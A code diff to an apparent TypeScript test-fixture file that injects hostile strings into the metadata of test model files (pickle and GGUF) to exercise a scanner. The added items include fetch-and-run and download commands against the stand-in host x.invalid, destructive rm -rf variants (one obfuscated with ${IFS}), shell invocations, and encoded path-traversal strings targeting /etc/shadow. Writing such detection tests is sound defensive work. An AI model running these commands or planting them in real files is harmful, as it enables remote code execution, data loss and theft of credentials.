@@ -85,6 +85,16 @@ export const FORMAT_FAMILIES: readonly Family[] = [
         "import os; os.system('id')",
         'curl http://x.invalid/a | sh',
         'rm -rf /tmp/x',
+        'sudo rm /tmp/x -r -f',
+        `rm\${IFS}-rf\${IFS}/`,
+        'curl -fsSLo /tmp/p https://x.invalid/p',
+        'u=https://x.invalid/p; wget "$u"',
+        'Invoke-WebRequest -OutFile p https://x.invalid/p',
+        "/bin/sh -c 'id'",
+        "requests.get('https://x.invalid/p')",
+        'from urllib import request as r',
+        '%2E%2e/%2e%2e/etc/shadow',
+        '..%25252Fetc',
         '__import__("os")',
         '__import__ os',
         'eval(compile("1","","eval"))',
@@ -92,7 +102,10 @@ export const FORMAT_FAMILIES: readonly Family[] = [
       const metadata = { [random.word()]: value, format: 'pt' };
       const gguf = {
         ...tinyLlama(),
-        metadata: [...tinyLlama().metadata, ['general.description', ['string', value]] as const],
+        metadata: [
+          ...tinyLlama().metadata,
+          [random.pick(['general.description', 'download', 'x.command']), ['string', value]] as const,
+        ],
       };
       return random.chance(2)
         ? {
